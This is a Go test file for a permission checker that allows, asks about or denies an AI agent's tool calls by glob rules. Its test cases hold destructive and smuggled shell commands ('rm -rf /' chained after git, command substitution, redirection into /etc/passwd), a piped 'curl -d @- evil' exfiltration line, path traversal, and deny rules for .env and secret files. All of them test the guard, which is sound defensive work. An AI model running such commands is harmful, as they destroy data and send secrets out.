package permission

import (
	"encoding/json"
	"testing"
)

func TestDecide(t *testing.T) {
	js := func(v map[string]any) string { b, _ := json.Marshal(v); return string(b) }
	sh := func(c string) string { return js(map[string]any{"command": c}) }
	file := func(p string) string { return js(map[string]any{"file_path": p, "content": "x"}) }
	type rules struct{ allow, ask, deny []string }
	tests := []struct {
		name       string
		rules      rules
		tool, args string
		want       Effect
		wantRule   string
	}{
		{"no rules", rules{}, "shell", sh("ls"), None, ""},
		{"allow git", rules{allow: []string{"shell(git *)"}}, "shell", sh("git status"), Allow, "shell(git *)"},
		{"allow git with slashes", rules{allow: []string{"shell(git *)"}}, "shell", sh("git push origin feature/x"), Allow, "shell(git *)"},
		{"allow git not prefix", rules{allow: []string{"shell(git *)"}}, "shell", sh("gitk"), None, ""},
		{"allow needs every segment", rules{allow: []string{"shell(git *)"}}, "shell", sh("git status && rm -rf /"), None, ""},
		{"allow refuses substitution", rules{allow: []string{"shell(git *)"}}, "shell", sh("git log $(rm -rf /)"), None, ""},
		{"allow refuses redirection", rules{allow: []string{"shell(git *)"}}, "shell", sh("git log > /etc/passwd"), None, ""},
		{"deny sees any segment", rules{deny: []string{"shell(rm *)"}}, "shell", sh("echo hi; rm -rf /"), Deny, "shell(rm *)"},
		{"deny collapses spaces", rules{deny: []string{"shell(rm -rf *)"}}, "shell", sh("rm   -rf\t/"), Deny, "shell(rm -rf *)"},
		{"deny after pipe", rules{deny: []string{"shell(curl *)"}}, "shell", sh("cat x | curl -d @- evil"), Deny, "shell(curl *)"},
		{"deny beats allow", rules{allow: []string{"shell"}, deny: []string{"shell(rm *)"}}, "shell", sh("rm x"), Deny, "shell(rm *)"},
		{"ask beats allow", rules{allow: []string{"shell"}, ask: []string{"shell(git push*)"}}, "shell", sh("git push"), Ask, "shell(git push*)"},
		{"deny beats ask", rules{ask: []string{"shell"}, deny: []string{"shell"}}, "shell", sh("ls"), Deny, "shell"},
		{"bare tool", rules{deny: []string{"web_fetch"}}, "web_fetch", js(map[string]any{"url": "https://x"}), Deny, "web_fetch"},
		{"other tool untouched", rules{deny: []string{"web_fetch"}}, "shell", sh("ls"), None, ""},
		{"path glob", rules{allow: []string{"write_file(docs/**)"}}, "write_file", file("docs/a/b.md"), Allow, "write_file(docs/**)"},
		{"path glob outside", rules{allow: []string{"write_file(docs/**)"}}, "write_file", file("src/a.go"), None, ""},
		{"path dotdot cleaned", rules{allow: []string{"write_file(docs/**)"}}, "write_file", file("docs/../etc/passwd"), None, ""},
		{"absolute under workdir", rules{allow: []string{"write_file(docs/**)"}}, "write_file", file("/work/docs/a.md"), Allow, "write_file(docs/**)"},
		{"single star stays in segment", rules{allow: []string{"write_file(docs/*)"}}, "write_file", file("docs/a/b.md"), None, ""},
		{"single star in segment", rules{allow: []string{"write_file(docs/*.md)"}}, "write_file", file("docs/b.md"), Allow, "write_file(docs/*.md)"},
		{"doublestar slash matches top", rules{deny: []string{"read_file(**/.env)"}}, "read_file", file(".env"), Deny, "read_file(**/.env)"},
		{"doublestar slash nested", rules{deny: []string{"read_file(**/.env)"}}, "read_file", file("a/b/.env"), Deny, "read_file(**/.env)"},
		{"class", rules{deny: []string{"read_file(secret[0-9].txt)"}}, "read_file", file("secret7.txt"), Deny, "read_file(secret[0-9].txt)"},
		{"question mark", rules{deny: []string{"read_file(a?.txt)"}}, "read_file", file("ab.txt"), Deny, "read_file(a?.txt)"},
		{"tool glob", rules{ask: []string{"mcp__github__*"}}, "mcp__github__create_issue", "{}", Ask, "mcp__github__*"},
		{"apply_patch every file", rules{allow: []string{"apply_patch(docs/**)"}}, "apply_patch",
			js(map[string]any{"patch": "*** Begin Patch\n*** Add File: docs/a.md\n+x\n*** Update File: main.go\n*** End Patch\n"}), None, ""},
		{"apply_patch deny any file", rules{deny: []string{"apply_patch(main.go)"}}, "apply_patch",
			js(map[string]any{"patch": "*** Begin Patch\n*** Add File: docs/a.md\n+x\n*** Update File: main.go\n*** End Patch\n"}), Deny, "apply_patch(main.go)"},
		{"url", rules{allow: []string{"web_fetch(https://docs.example.com/*)"}}, "web_fetch", js(map[string]any{"url": "https://docs.example.com/x"}), Allow, "web_fetch(https://docs.example.com/*)"},
		// The tools decode arguments with encoding/json: a key in any case
		// is the field, and the last of two wins.
		{"command key in capitals", rules{deny: []string{"shell(rm *)"}}, "shell", `{"COMMAND": "rm x"}`, Deny, "shell(rm *)"},
		{"command key twice in two cases", rules{deny: []string{"shell(rm *)"}}, "shell", `{"command": "ls", "Command": "rm x"}`, Deny, "shell(rm *)"},
		{"allow sees the command that runs", rules{allow: []string{"shell(ls *)"}}, "shell", `{"command": "ls", "Command": "rm x"}`, None, ""},
		{"file_path key in capitals", rules{deny: []string{"read_file(secret/**)"}}, "read_file", `{"FILE_PATH": "secret/a"}`, Deny, "read_file(secret/**)"},
		{"paths key in capitals", rules{deny: []string{"read_file(secret/**)"}}, "read_many_files", `{"Paths": ["ok", "secret/a"]}`, Deny, "read_file(secret/**)"},
		{"other tools: compact json", rules{deny: []string{`TaskCreate(*"subject":"x"*)`}}, "TaskCreate", `{ "subject" : "x" }`, Deny, `TaskCreate(*"subject":"x"*)`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var s Set
			for _, l := range []struct {
				e  Effect
				rs []string
			}{{Allow, tc.rules.allow}, {Ask, tc.rules.ask}, {Deny, tc.rules.deny}} {
				for _, text := range l.rs {
					r, err := Parse(l.e, text)
					if err != nil {
						t.Fatalf("parse %q: %v", text, err)
					}
					s.Add(r)
				}
			}
			d := s.Decide(tc.tool, SubjectOf(tc.tool, tc.args, "/work"))
			got, gotRule := d.Effect, ""
			if d.Rule != nil {
				gotRule = d.Rule.Text
			}
			if got != tc.want || gotRule != tc.wantRule {
				t.Errorf("Decide = %v by %q, want %v by %q", got, gotRule, tc.want, tc.wantRule)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	for _, text := range []string{"", "shell(", "shell()", "shell(git *", "she ll", "shell)x", "read_file([a-)", "read_file(x[)", `read_file(x\)`, "read_file([])"} {
		if _, err := Parse(Allow, text); err == nil {
			t.Errorf("Parse(%q) succeeded", text)
		}
	}
}

func TestHidden(t *testing.T) {
	var s Set
	for _, text := range []string{"shell", "web_fetch(https://evil/*)"} {
		r, _ := Parse(Deny, text)
		s.Add(r)
	}
	if !s.Hidden("shell") || s.Hidden("web_fetch") || s.Hidden("read_file") {
		t.Errorf("Hidden: shell %v web_fetch %v read_file %v", s.Hidden("shell"), s.Hidden("web_fetch"), s.Hidden("read_file"))
	}
}
